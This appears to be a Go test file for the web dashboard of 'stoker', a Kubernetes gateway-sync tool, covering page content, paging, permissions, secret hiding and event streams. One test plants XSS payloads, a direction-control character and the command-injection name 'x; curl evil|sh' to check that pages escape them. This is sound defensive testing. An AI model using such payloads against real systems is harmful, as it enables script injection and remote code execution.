package ui

import (
	"bufio"
	"context"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"

	"stoker.io/stoker/api/v1alpha1"
	"stoker.io/stoker/hooks/sites"
	"stoker.io/stoker/hooks/ui/uitest"
	"stoker.io/stoker/internal/kube"
	"stoker.io/stoker/test/cluster/kubetest"
)

func TestMain(m *testing.M) { os.Exit(kubetest.M{M: m}.Run()) }

// liveness is ten times what a loaded machine needs.
const liveness = time.Minute

func manual(document string) string { return "https://docs.example.com/" + document }

// reader is a user with a browser that has exchanged the token for the cookie.
type reader struct {
	t      testing.TB
	page   *Server
	base   string
	cookie *http.Cookie
}

// open serves the page with the rights of config.
func open(t testing.TB, config *rest.Config, namespace string) *reader {
	t.Helper()
	return openSites(t, siteOf(t, "plant", config, namespace))
}

// openSites serves the page of several sites.
func openSites(t testing.TB, list ...sites.Site) *reader {
	t.Helper()
	page, err := New(Options{Sites: list, Version: "test", Manual: manual})
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { page.Run(ctx); close(done) }()
	server := httptest.NewServer(page)
	t.Cleanup(func() {
		cancel()
		<-done
		server.CloseClientConnections()
		server.Close()
	})
	r := &reader{t: t, page: page, base: server.URL}
	first, err := url.Parse(page.URL(strings.TrimPrefix(server.URL, "http://"), "/"))
	require.NoError(t, err)
	res := r.send(http.MethodGet, first.RequestURI(), nil)
	require.Equal(t, http.StatusSeeOther, res.StatusCode)
	require.Len(t, res.cookies, 1)
	r.cookie = res.cookies[0]
	return r
}

// answer is a response whose body was read.
type answer struct {
	StatusCode int
	Header     http.Header
	cookies    []*http.Cookie
	body       string
}

// send sends a request without following a redirect.
func (r *reader) send(method, path string, change func(*http.Request)) answer {
	r.t.Helper()
	req, err := http.NewRequestWithContext(r.t.Context(), method, r.base+path, nil)
	require.NoError(r.t, err)
	if r.cookie != nil {
		req.AddCookie(r.cookie)
	}
	if change != nil {
		change(req)
	}
	res, err := http.DefaultTransport.RoundTrip(req)
	require.NoError(r.t, err)
	body, err := io.ReadAll(res.Body)
	require.NoError(r.t, err)
	res.Body.Close()
	return answer{res.StatusCode, res.Header, res.Cookies(), string(body)}
}

// get returns a page.
func (r *reader) get(path string) string {
	r.t.Helper()
	return r.send(http.MethodGet, path, nil).body
}

// shows loads a page until it contains one of some texts, and returns it.
func (r *reader) shows(path string, wants ...string) string {
	r.t.Helper()
	var page string
	has := func(want string) bool { return strings.Contains(page, want) }
	require.Eventually(r.t, func() bool { page = r.get(path); return slices.ContainsFunc(wants, has) }, liveness, 50*time.Millisecond, "%s in %s", wants, path)
	return page
}

// silentServer returns the address of a server that accepts connections and never answers.
func silentServer(t testing.TB) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = l.Close() })
	return "http://" + l.Addr().String()
}

// Every route answers without an API server.
func TestRoutesWithoutAPIServer(t *testing.T) {
	t.Parallel()
	r := open(t, &rest.Config{Host: "http://127.0.0.1:1"}, "plant")
	r.shows("/", "GatewaySyncs cannot be read")
	for _, pattern := range r.page.mux.Patterns() {
		t.Run(pattern, func(t *testing.T) {
			path := regexp.MustCompile(`\{[^}]*\}`).ReplaceAllString(strings.TrimPrefix(pattern, "GET "), "x")
			if path == "/live" {
				return // a stream
			}
			assert.Less(t, r.send(http.MethodGet, path, nil).StatusCode, 504)
			assert.Equal(t, 405, r.send(http.MethodPost, path, nil).StatusCode)
		})
	}
}

func TestFleetPages(t *testing.T) {
	t.Parallel()
	s := uitest.New(t, kubetest.Objects(t))
	s.Fleet("area", 50, 7)
	s.Fleet("calm", 3, 0)
	s.Agent("area-7", "area-6")
	r := open(t, s.Agents.Config(), s.Namespace)
	page := r.shows("/", "7 of 53 gateways are behind")
	for _, want := range []string{"DesignerSessionActive", "A Designer session is open on what would change.", "3h12m ago", "Up to date", "43 of 50"} {
		assert.Contains(t, page, want)
	}
	assert.Contains(t, r.get("/?q=calm"), "3 of 3")
	assert.NotContains(t, r.get("/?q=calm"), `">area</a></th>`)

	fleet := PathOf(s.Namespace, "area")
	page = r.get(fleet)
	assert.Contains(t, page, "7 of 50 gateways are behind")
	assert.Less(t, strings.Index(page, ">area-14<"), strings.Index(page, ">area-1<"), "gateways that need attention must come first")
	for query, want := range map[string][]string{
		"?state=Held":                            {"area-7", "area-28", "area-42"},
		"?state=behind&sort=name":                {"area-7", "area-14", "area-21", "area-28", "area-35", "area-42", "area-49"},
		"?reason=GatewayForbidden&dir=desc":      {"area-49", "area-14"},
		"?q=AREA-4&state=behind&sort=name":       {"area-42", "area-49"},
		"?state=proposals&sort=name&dir=desc":    {"area-31", "area-8"},
		"?state=<script>":                        nil,
		"?state=drift&sort=nothing&dir=sideways": {"area-6", "area-23", "area-40"},
	} {
		t.Run(query, func(t *testing.T) {
			var have []string
			for _, m := range regexp.MustCompile(`<tr><th scope="row"><a href="[^"]*">(area-\d+)</a>`).FindAllStringSubmatch(r.get(fleet+strings.ReplaceAll(query, "<script>", "%3Cscript%3E")), -1) {
				have = append(have, m[1])
			}
			assert.Equal(t, want, have)
		})
	}

	page = r.get(fleet + "/gateway?name=area-7")
	for _, want := range []string{"area-7 is behind", "What to do", "a crashed Designer counts until the gateway drops it", "Changed on the gateway itself", "views/Tank/view.json", "kargo for Stage prod",
		"https://git.example.com/plant/pulls/42", `<a href="https://github.com/plant/area/compare/`, `<dt>Desired</dt><dd><a href="https://github.com/plant/area/commit/` + uitest.Target, "Take the new alarm views (Ann Berg)", `<dt>Runs</dt><dd><a href="https://github.com/plant/area/commit/`, "stoker snapshots area --namespace " + s.Namespace + " --restore area-7-", "projects/filling/project.json"} {
		assert.Contains(t, page, want)
	}
	diff := regexp.MustCompile(`href="([^"]*/sync\?[^"]*)"`).FindStringSubmatch(page)
	require.NotNil(t, diff)
	page = r.get(strings.ReplaceAll(diff[1], "&amp;", "&"))
	for _, want := range []string{"1 added, 1 modified, 1 deleted", "named-query/old/query.sql", "3abea81", `<a href="https://github.com/plant/area/compare/`, "https://github.com/plant/area/blob/" + uitest.Old + "/site/projects/filling/com."} {
		assert.Contains(t, page, want)
	}
	assert.Contains(t, r.get(fleet+"/sync?name=area-7&id=unheard"), "The agent does not answer")
	assert.Contains(t, r.get(fleet+"/sync?name=area-1&id=unheard"), "The pod is gone")
	page = r.get(fleet + "/gateway?name=area-1")
	for _, want := range []string{"The pod is gone", "ScanFailed", "12 files", "341Ki; data volume, object storage", "--restore area-1-", "plant-snapshots", "saves a backup of itself"} {
		assert.Contains(t, page, want, "the status must provide the details without the agent")
	}
	assert.Contains(t, r.get(fleet+"/gateway?name=unheard"), "There is no such gateway")
	assert.Contains(t, r.get("/fleets/"+s.Namespace+"/unheard"), "There is no such fleet")
	assert.Contains(t, r.get("/reasons/Paused"), "stoker resume")
	assert.Equal(t, 404, r.send("GET", "/reasons/Unheard", nil).StatusCode)
}

func TestRolloutPages(t *testing.T) {
	t.Parallel()
	s := uitest.New(t, kubetest.Objects(t))
	for _, phase := range []v1alpha1.RolloutPhase{v1alpha1.RolloutWaiting, v1alpha1.RolloutSoaking, v1alpha1.RolloutAborted} {
		s.Rollout(strings.ToLower(string(phase)), phase)
	}
	r := open(t, s.Agents.Config(), s.Namespace)
	r.shows("/", "of 18 gateways are behind")
	for name, c := range map[string]struct{ stages, says []string }{
		"waiting": {[]string{"dev Done 1 of 1", "canary Done 2 of 2", "plant Waits for approval 0 of 3"}, []string{"stoker approve waiting plant --commit 8a9ef4f --namespace", "approval", "ApprovalNeeded"}},
		"soaking": {[]string{"dev Done 1 of 1", "canary Soaking 2 of 2", "plant Later 0 of 3"}, []string{"runs for 30m, health check", "waits until it is"}},
		"aborted": {[]string{"dev Done 1 of 1", "canary Failed 1 of 2", "plant Not reached 0 of 3"},
			[]string{"stoker retry aborted --namespace", "stoker rollback aborted --namespace", "stay for inspection", "CanaryStageFailed"}},
	} {
		t.Run(name, func(t *testing.T) {
			path := PathOf(s.Namespace, name)
			page := r.get(path)
			for _, want := range append(c.says, "Rollout of <code>8a9ef4f</code> after <code>3abea81</code>", "Step 2 of 3, <time") {
				assert.Contains(t, page, want)
			}
			var have []string
			for _, m := range regexp.MustCompile(`stage=\w+#gateways">(\w+)</a></th><td><span class="chip \w+"><svg.*?</svg>([^<]*)</span></td><td>([^<]*)<`).FindAllStringSubmatch(page, -1) {
				have = append(have, strings.Join(m[1:], " "))
			}
			assert.Equal(t, c.stages, have)
			canary := r.get(path + "?stage=canary")
			assert.Contains(t, canary, ">"+name+"-2</a></th>")
			assert.NotContains(t, canary, ">"+name+"-4</a></th>")
			assert.Contains(t, r.get(path+"/gateway?name="+name+"-5"), "<dt>Stage</dt><dd>plant</dd>")
		})
	}
}

func TestListIsPaged(t *testing.T) {
	t.Parallel()
	s := uitest.New(t, kubetest.Objects(t))
	s.Fleet("site", 250, 0)
	r := open(t, s.Agents.Config(), s.Namespace)
	r.shows("/", "All 250 gateways")
	for query, want := range map[string][3]string{
		"": {"1 to 100 of 250", "site-1", "site-101"}, "?page=2": {"101 to 200 of 250", "site-150", "site-1"}, "?page=3": {"201 to 250 of 250", "site-250", "site-200"},
		"?page=99": {"201 to 250 of 250", "site-250", "site-200"}, "?page=x": {"1 to 100 of 250", "site-1", "site-101"}, "?q=site-1&page=2": {"101 to 114 of 114", "site-190", "site-2"},
	} {
		t.Run(query, func(t *testing.T) {
			page := r.get(PathOf(s.Namespace, "site") + query)
			assert.Contains(t, page, want[0])
			assert.Contains(t, page, ">"+want[1]+"</a></th>")
			assert.NotContains(t, page, ">"+want[2]+"</a></th>")
			assert.Equal(t, 1, strings.Count(page, `aria-current="page"><span class="hidden">Page`))
		})
	}
	assert.NotContains(t, r.get(PathOf(s.Namespace, "site")+"?q=site-25"), "Pages of the list")
}

// A fleet that no agent confirms is never shown as up to date.
func TestAbsentLeadIsNotConfirmed(t *testing.T) {
	t.Parallel()
	s := uitest.New(t, kubetest.Objects(t))
	gs := s.Fleet("line", 3, 0)
	r := open(t, s.Agents.Config(), s.Namespace)
	r.shows("/", "All 3 gateways are up to date")
	client, err := kube.ConnectTo(s.Cluster.RESTConfig(), "test")
	require.NoError(t, err)
	require.NoError(t, kube.SyncTargets(client.Dynamic, s.Namespace).Delete(t.Context(), gs.Name, metav1.DeleteOptions{}))
	page := r.shows("/", "What 3 of 3 gateways run is not known")
	assert.Contains(t, page, "Not confirmed")
	assert.Contains(t, page, "AgentsAway")
	assert.NotContains(t, page, "Up to date")
	assert.NotContains(t, page, "behind")
	assert.Contains(t, r.get(PathOf(s.Namespace, "line")+"/gateway?name=line-1"), "What line-1 runs is not known")
}

// Without an API server the page never shows that all is well, or that there is nothing.
func TestUnreachableAPIServer(t *testing.T) {
	t.Parallel()
	r := open(t, &rest.Config{Host: "http://127.0.0.1:1"}, "plant")
	page := r.shows("/", "The fleets are not known")
	for _, wrong := range []string{"No fleets", "calm", "Live, read-only", "up to date"} {
		assert.NotContains(t, page, wrong)
	}
	assert.Contains(t, page, `data-link="Not live: the API server does not answer"`)

	s := uitest.New(t, kubetest.Objects(t))
	s.Fleet("line", 3, 0)
	r = open(t, s.Agents.Config(), s.Namespace)
	page = r.shows("/", "All 3 gateways are up to date")
	assert.Contains(t, page, `data-link="Live, read-only"`)
	s.Agents.Stop()
	for _, path := range []string{"/", PathOf(s.Namespace, "line"), PathOf(s.Namespace, "line") + "/gateway?name=line-1"} {
		t.Run(path, func(t *testing.T) {
			page := r.shows(path, "is not known")
			for _, wrong := range []string{"Up to date", "calm", "Live, read-only", "behind", "3 of 3"} {
				assert.NotContains(t, page, wrong)
			}
			now, _, _ := strings.Cut(page, "Past syncs") // which the status has
			assert.NotContains(t, now, "chip good")
			assert.Contains(t, page, "GatewaySyncs cannot be read")
		})
	}
}

// U3 of docs/internals/threats.md: what objects and agents say is shown as text, cut, and without characters that control the direction of writing.
func TestHostileContent(t *testing.T) {
	t.Parallel()
	s := uitest.New(t, kubetest.Objects(t))
	const script = `<script>alert(1)</script><img src=x onerror=alert(1)>"' onmouseover=alert(1) `
	gs := &v1alpha1.GatewaySync{ObjectMeta: metav1.ObjectMeta{Name: "line", Annotations: map[string]string{v1alpha1.AnnotationRequestedBy: "x"}}}
	gs.Spec.Git.Repo, gs.Spec.Git.Ref = `https://github.com/plant/"><script>alert(1)</script>`, "main"
	gs.Spec.Bidirectional = &v1alpha1.BidirectionalSpec{Provider: "gitlab"}
	long := strings.Repeat("x", 900)
	s.Write(gs, v1alpha1.GatewaySyncStatus{
		Target: &v1alpha1.TargetStatus{Ref: "main", Commit: uitest.Target},
		DiscoveredGateways: []v1alpha1.DiscoveredGateway{
			{Name: script, PodName: "line-0", SyncStatus: v1alpha1.GatewayError, Reason: `"><script>alert(1)</script>`, Message: script + long, Profile: script[:60], SyncedRef: script, LastScanResult: script,
				GatewayDetails: v1alpha1.GatewayDetails{AgentVersion: script[:60]}, ProjectsSynced: []string{script}, Proposal: "javascript:alert(1)", ProposalState: v1alpha1.ProposalOpen},
			{Name: "x; curl evil|sh", PodName: "line-2", SyncStatus: v1alpha1.GatewayError, Reason: v1alpha1.ReasonScanFailed},
			{Name: "..", PodName: "line-1", SyncStatus: v1alpha1.GatewayHeld, Reason: v1alpha1.ReasonConflictDetected, Message: "abc\u202egnp.exe\x1b[31m", Proposal: "data:text/html,<script>alert(1)</script>", ProposalState: v1alpha1.ProposalOpen},
		},
		Conditions: []metav1.Condition{{Type: v1alpha1.ConditionBidirectionalReady, Status: metav1.ConditionFalse, Reason: "X", Message: script, LastTransitionTime: metav1.Now()}},
	})
	s.Pod("line-1")
	forged := strings.NewReplacer("EVIL", `<script>alert(1)</script>`).Replace(`{"gateway": "..", "plan": ["+ EVIL"], "drift": {"files": 1, "paths": [{"path": "EVIL", "what": "EVIL"}]},
"proposal": {"state": "EVIL", "branch": "EVIL", "url": "javascript:alert(1)", "message": "EVIL", "reason": "EVIL"}, "problems": [{"reason": "EVIL", "message": "EVIL"}],
"report": {"notes": ["EVIL"], "snapshots": [{"id": "EVIL"}]}, "history": []}`)
	s.Agents.Answer(s.Namespace, "line-1", forged)
	s.Agents.Answer(s.Namespace, "line-1:8082/audit", `{"schema": 1, "gateway": "..", "ref": "<script>alert(1)</script>", "author": "<script>", "requestedBy": "<script>", "diff": "../../<script>", "reason": "<script>", "result": "<script>"}`+"\n")
	r := open(t, s.Agents.Config(), s.Namespace)
	fleet := PathOf(s.Namespace, "line")
	r.shows("/", "gateways are behind")
	for name, path := range map[string]string{
		"fleets": "/", "fleet": fleet, "gateway": fleet + "/gateway?" + url.Values{"name": {script}}.Encode(), "forged": fleet + "/gateway?name=..",
		"query": fleet + "?" + url.Values{"q": {script}, "state": {script}, "reason": {script}, "sort": {script}, "dir": {script}}.Encode(), "search": "/?" + url.Values{"q": {script}}.Encode(),
	} {
		t.Run(name, func(t *testing.T) {
			page := r.get(path)
			assert.NotContains(t, page, "<script>")
			assert.NotContains(t, page, "<img src=x")
			assert.NotRegexp(t, `\son\w+=`, regexp.MustCompile(`"[^"]*"|>[^<]*<`).ReplaceAllString(page, ""))
			assert.NotRegexp(t, `href="(javascript|data):`, page)
			assert.NotContains(t, page, "\u202e")
			assert.NotContains(t, page, "\x1b")
			assert.NotContains(t, page, "ZgotmplZ")
			assert.Contains(t, page, "</html>")
		})
	}
	assert.Contains(t, r.get(fleet+"/gateway?name=.."), "&#43; &lt;script&gt;", "the page must show the answer of the agent")
	assert.NotContains(t, r.get(fleet+"/gateway?"+url.Values{"name": {"x; curl evil|sh"}}.Encode()), "--gateway", "no command to paste")
	assert.Less(t, len(r.get(fleet)), 40_000, "a large message must be truncated")
}

// U4 of docs/internals/threats.md: what a user may not read is missing from the page, which says so.
func TestMissingRights(t *testing.T) {
	t.Parallel()
	cluster := kubetest.Control(t)
	s := uitest.New(t, cluster)
	s.Fleet("line", 2, 2)
	s.Agent("line-2", "line-1")
	cluster.ApplyYAML(t, s.Namespace, `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: fleets}
rules: [{apiGroups: [stoker.io], resources: [gatewaysyncs], verbs: [get, list, watch]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: pods}
rules: [{apiGroups: [""], resources: [pods], verbs: [get]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: fleets}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: fleets}
subjects: [{kind: ServiceAccount, name: default, namespace: `+s.Namespace+`}]
`)
	user := cluster.As(t, s.Namespace, "default", "")
	r := open(t, user, s.Namespace)
	page := r.shows("/", "1 of 2 gateways is behind")
	assert.Contains(t, page, "You may not read SyncTargets")
	assert.Contains(t, page, "list synctargets.stoker.io in namespace "+s.Namespace)
	page = r.get(PathOf(s.Namespace, "line") + "/gateway?name=line-2")
	assert.Contains(t, page, "You may not ask the agent")
	assert.Contains(t, page, "get pods and pods/proxy in namespace "+s.Namespace)
	assert.Contains(t, page, "A Designer session is open", "the rest must be shown")
	text := PathOf(s.Namespace, "line") + "/text?name=line-2&path=x"
	assert.Contains(t, r.get(text), "lacks the right to get pods or to create pods/exec in namespace "+s.Namespace)
	_, err := s.Cluster.Client(t).RbacV1().RoleBindings(s.Namespace).Create(t.Context(), &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "pods"},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "pods"},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "default", Namespace: s.Namespace}}}, metav1.CreateOptions{})
	require.NoError(t, err)
	r.shows(text, "cannot create resource &#34;pods/exec&#34;")

	r = open(t, user, "")
	page = r.shows("/", "You may not read GatewaySyncs")
	assert.Contains(t, page, "gatewaysyncs.stoker.io in all namespaces")
	assert.Contains(t, r.get(PathOf(s.Namespace, "line")), "You may not read GatewaySyncs")
}

// C7 of docs/internals/threats.md: the page reads no Secret and shows no secret value: neither of the cluster, nor of an address, nor of an
// annotation of a pod.
func TestPagesShowNoSecret(t *testing.T) {
	t.Parallel()
	s := uitest.New(t, kubetest.Objects(t))
	const planted = "planted-1f0c2d3e4f"
	client := s.Cluster.Client(t)
	_, err := client.CoreV1().Secrets(s.Namespace).Create(t.Context(), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "token"}, StringData: map[string]string{"token": planted}}, metav1.CreateOptions{})
	require.NoError(t, err)
	s.Fleet("line", 1, 1)
	s.Agent("line-1", "line-0")
	pod, err := client.CoreV1().Pods(s.Namespace).Get(t.Context(), "line-0", metav1.GetOptions{})
	require.NoError(t, err)
	pod.Annotations = map[string]string{"example.com/token": planted}
	_, err = client.CoreV1().Pods(s.Namespace).Update(t.Context(), pod, metav1.UpdateOptions{})
	require.NoError(t, err)
	r := open(t, s.Agents.Config(), s.Namespace)
	r.shows("/", "1 of 1 gateway is behind")
	fleet := PathOf(s.Namespace, "line")
	// sequence: each page finds more
	for _, path := range []string{"/", fleet, fleet + "/gateway?name=line-1"} {
		page := r.get(path)
		assert.NotContains(t, page, planted, path)
		assert.NotContains(t, page, r.page.token, path)
		assert.NotContains(t, page, r.page.cookie, path)
	}
	for _, path := range s.Agents.RequestPaths() {
		assert.NotContains(t, path, "/secrets")
	}
	assert.Equal(t, "https://git.example.com/plant.git", address("https://user:"+planted+"@git.example.com/plant.git"))
}

// events reads the events of a page.
func (r *reader) events(path string) <-chan string {
	r.t.Helper()
	req, err := http.NewRequestWithContext(r.t.Context(), http.MethodGet, r.base+path, nil)
	require.NoError(r.t, err)
	req.AddCookie(r.cookie)
	res, err := http.DefaultTransport.RoundTrip(req) //nolint:bodyclose // the goroutine below closes it
	require.NoError(r.t, err)
	require.Equal(r.t, http.StatusOK, res.StatusCode)
	list := make(chan string, 100)
	go func() {
		defer res.Body.Close()
		defer close(list)
		for lines := bufio.NewScanner(res.Body); lines.Scan(); {
			if event, ok := strings.CutPrefix(lines.Text(), "event: "); ok {
				list <- event
			}
		}
	}()
	return list
}

func TestEvents(t *testing.T) {
	t.Parallel()
	s := uitest.New(t, kubetest.Objects(t))
	gs := s.Fleet("line", 1, 0)
	s.Fleet("other", 1, 0)
	r := open(t, s.Agents.Config(), s.Namespace)
	r.shows("/", "All 2 gateways")
	next := func(events <-chan string) string {
		t.Helper()
		select {
		case e := <-events:
			return e
		case <-time.After(liveness):
			require.Fail(t, "no event")
			return ""
		}
	}
	events := r.events("/live?fleet=" + s.Namespace + "/line")
	other := r.events("/live?fleet=" + s.Namespace + "/other")
	assert.Equal(t, "open", next(events))
	assert.Equal(t, "open", next(other))
	s.Write(gs, gs.Status)
	began := time.Now()
	assert.Equal(t, "changed", next(events))
	if time.Since(began) < maxEventInterval/2 {
		assert.Empty(t, other, "a change of another fleet must not send an event")
	}

	for range maxStreams - 2 {
		assert.Equal(t, "open", next(r.events("/live")))
	}
	res := r.send(http.MethodGet, "/live", nil)
	assert.Equal(t, http.StatusServiceUnavailable, res.StatusCode, "the number of event streams must be bounded")
}
